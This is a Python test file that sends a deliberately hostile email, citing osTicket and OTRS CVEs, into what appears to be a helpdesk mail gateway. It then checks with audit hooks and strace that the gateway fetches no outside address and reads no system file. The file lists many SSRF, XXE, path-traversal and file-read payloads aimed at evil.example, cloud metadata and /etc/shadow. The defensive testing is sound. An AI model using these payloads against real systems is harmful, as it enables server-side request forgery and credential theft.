"""V-81, osTicket CVE-2026-22200, OTRS CVE-2018-16586: a mail makes the desk fetch an address, or read a file of its own machine.

The whole program in a process of its own, which tells every connection, name that is looked up, program that is started and file
that is opened; so do the processes that read mails. With strace the kernel tells it too, whatever language does it.
"""

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.scene import mail_of

HOUSE = Path(__file__).resolve().parents[2]
SECRET = "/etc/shadow"
URLS = [
    "http://evil.example/a", "https://evil.example/b?c=d", "//evil.example/c", f"file://{SECRET}", f"file:{SECRET}", SECRET,
    "php://filter/convert.base64-encode/resource=/etc/shadow", "ftp://evil.example/d", "\\\\evil.example\\share\\e",
    "gopher://127.0.0.1:25/", "http://169.254.169.254/latest/meta-data/", "http://[::1]:5432/", "http://localhost:11211/",
    "data:text/html,<script src=http://evil.example/f></script>", "cid:x@evil.example", "jar:http://evil.example/g!/",
    "http://example.org@evil.example/h", "ldap://evil.example/i", "dict://evil.example:11211/j", "../../../etc/shadow",
]  # fmt: skip


def html() -> str:
    out = ["<!DOCTYPE html SYSTEM 'http://evil.example/x.dtd' [<!ENTITY x SYSTEM 'file:///etc/shadow'>]>&x;"]
    for url in URLS:
        out += [f'<img src="{url}" srcset="{url} 2x"><link rel=stylesheet href="{url}"><iframe src="{url}"></iframe>',
                f'<style>@import "{url}"; b{{background:url({url})}}</style><a href="{url}">{url}</a><base href="{url}">',
                f'<object data="{url}"></object><video src="{url}"></video><meta http-equiv=refresh content="0;url={url}">',
                f'<svg><image href="{url}"/><use xlink:href="{url}"/></svg><table background="{url}">']  # fmt: skip
    return "".join(out)


def hostile() -> bytes:
    calendar = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nDTSTART:20261130T100000Z\r\n"
    calendar += "".join(
        f'ATTACH:{url}\r\nURL:{url}\r\nORGANIZER;DIR="{url}":mailto:eva@example.org\r\n' for url in URLS
    )
    calendar += "END:VEVENT\r\nEND:VCALENDAR\r\n"
    parts = [
        "Content-Type: text/plain\r\n\r\nSee " + "\r\n".join(URLS),
        f"Content-Type: text/html\r\n\r\n{html()}",
        f"Content-Type: text/calendar; method=REQUEST\r\n\r\n{calendar}",
        f"Content-Type: image/svg+xml\r\nContent-Disposition: inline; filename=x.svg\r\n\r\n<?xml-stylesheet href='{URLS[0]}'?>"
        f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{SECRET}'>]><svg>&x;<image href='{URLS[0]}'/></svg>",
        f'Content-Type: message/external-body; access-type=URL; URL="{URLS[0]}"\r\n\r\nContent-Type: text/plain\r\n\r\n',
        f'Content-Type: message/external-body; access-type=local-file; name="{SECRET}"\r\n\r\nContent-Type: text/plain\r\n\r\n',
        f'Content-Type: application/pdf; name="{SECRET}"\r\nContent-Location: {URLS[3]}\r\nContent-Base: {URLS[0]}\r\n\r\nx',
    ]
    body = "".join(f"--b\r\n{part}\r\n" for part in parts) + "--b--\r\n"
    header = [
        f"{name}: <{url}>"
        for name in ("List-Unsubscribe", "X-Image-URL", "Archived-At", "Disposition-Notification-To")
        for url in URLS[:3]
    ]
    header += [
        "DKIM-Signature: v=1; a=rsa-sha256; d=evil.example; s=../../etc/shadow; h=From; bh=AA==; b=AA==; q=dns/txt:http://evil.example/"
    ]
    header += ["DKIM-Signature: v=1; a=rsa-sha256; d=169.254.169.254; s=file:///etc/shadow; h=From; bh=AA==; b=AA=="]
    header += [
        "From: <mallory@evil.example>",
        "Subject: http://evil.example/s",
        "Message-ID: <u@evil.example>",
        'Content-Type: multipart/mixed; boundary="b"',
    ]
    return mail_of(*(line.encode() for line in header), body=body.encode())


RUN = '''
import json, os, sys
told = os.open(sys.argv[2], os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
HOOK = """
import os, sys
def hook(event, args):
    if event in ("open", "socket.connect", "socket.getaddrinfo", "socket.sendto", "subprocess.Popen", "os.exec"):
        os.write(TOLD, (event + " " + ascii(args[1] if event.startswith("socket") and "get" not in event else args[0])
                        + " " + ascii(args[1:2]) + chr(10)).encode())
sys.addaudithook(hook)
"""
from pathlib import Path
from gateway.work import reader_child
from tests.boards.stage import Stage, mail
from tests.senders.dns_stub import serving
reader_child._BOOT = f"import os; TOLD = os.open({sys.argv[2]!r}, os.O_WRONLY | os.O_APPEND)\\n{HOOK}\\n{reader_child._BOOT}"
TRUST = 'colleagues_need = "pass"\\noutsiders_new = "accept"\\nresolver = "{}"'
with serving() as dns:
    dns.txt("evil.example", "v=spf1 include:169.254.169.254 exists:%{i}.evil.example redirect=http://evil.example")
    dns.txt("../../etc/shadow._domainkey.evil.example", "v=DKIM1; p=http://evil.example/key")
    with Stage(Path(sys.argv[1]) / "desk", trust=TRUST.format(dns.resolver)) as stage:
        def play(raw):
            stage.send(raw, "it@example.org", reverse_path="mallory@evil.example")
        for number in range(3):  # all that is imported late, in every process
            play(mail("Mallory <mallory@evil.example>", "it@example.org", "<html><p>Hello</html>", id=f"w{number}@x.example",
                      Content_Type="text/html", DKIM_Signature="v=1; a=rsa-sha256; d=evil.example; s=s; h=From; bh=AA==; b=AA=="))
        exec(HOOK, {"TOLD": told})
        os.write(told, b"--- now\\n")
        play(Path(sys.argv[3]).read_bytes())
        stage.clock("16:00")
        [row] = [row for row in stage.mails() if row.subject.startswith("http")]
        os.write(told, b"--- end\\n")
        print(json.dumps({"outcome": row.outcome, "letters": len(stage.all_letters()), "asked": dns.asked,
                          "ports": [stage.port, dns.address[1]]}))
'''
# What the program may open beside its own folder: its own code and data, and what Python and the C library read of the machine
OWN = re.compile(
    rf"{re.escape(str(HOUSE))}/|{re.escape(sys.prefix)}/|{re.escape(sys.base_prefix)}/|/usr/share/zoneinfo/|/usr/lib/|/lib|/proc/|/sys/"
    r"|/dev/(?:null|urandom)\Z|/etc/(?:localtime|ld\.so\.cache)\Z"
)


def play(folder: Path, *before: str) -> tuple[dict[str, Any], str]:
    """What became of the mail, and what the processes told since."""
    (folder / "mail.eml").write_bytes(hostile())
    arguments = [*before, sys.executable, "-c", RUN, str(folder), str(folder / "told"), str(folder / "mail.eml")]
    ran = subprocess.run(arguments, cwd=HOUSE, capture_output=True, text=True, timeout=110)
    assert ran.returncode == 0, ran.stderr
    return json.loads(ran.stdout.splitlines()[-1]), (folder / "told").read_text()


def test_no_connection_and_no_file_but_our_own(tmp_path: Path) -> None:
    became, told = play(tmp_path)
    assert became["outcome"] == "opened"
    assert became["letters"]
    lines = told.split("--- now\n")[1].split("--- end\n")[0].splitlines()
    files = [line.split(" ")[1].strip("'\"") for line in lines if line.startswith("open ")]
    assert [one for one in files if one.startswith(str(tmp_path))]  # its letters: it does tell
    assert not [
        one for one in files if one.startswith("/") and not one.startswith(str(tmp_path)) and not OWN.match(one)
    ]
    assert "shadow" not in told
    # The client of this test asks for its own address
    reached = [
        line for line in lines if line.startswith("socket.") and not line.startswith("socket.getaddrinfo '127.0.0.1'")
    ]
    assert any(f", {port})" in line for line in reached for port in became["ports"])
    assert not [line for line in reached if not any(f"('127.0.0.1', {port})" in line for port in became["ports"])]
    assert all(name.endswith(".example") for name, _ in became["asked"]), became[
        "asked"
    ]  # whom its own records name, too
    assert not [line for line in lines if line.startswith(("subprocess", "os.exec")) and sys.executable not in line]


@pytest.mark.long
@pytest.mark.skipif(shutil.which("strace") is None, reason="no strace here")
def test_the_kernel_says_so_too(tmp_path: Path) -> None:
    calls = tmp_path / "calls"
    became, _ = play(
        tmp_path, "strace", "-f", "-qq", "-s", "200", "-e", "trace=connect,sendto,open,openat,execve", "-o", str(calls)
    )
    lines = calls.read_text(errors="replace").splitlines()
    assert [line for line in lines if "mail.eml" in line]  # it does tell
    assert not [line for line in lines if " open" in line and "shadow" in line]
    reached = [line for line in lines if " connect(" in line and "AF_INET" in line]
    assert [line for line in reached if "127.0.0.1" in line]
    assert not [line for line in reached if "127.0.0.1" not in line]
    assert became["outcome"] == "opened"
    assert not [
        line
        for line in lines
        if "execve(" in line and "/python" not in line and " = 0" in line and "strace" not in line
    ]
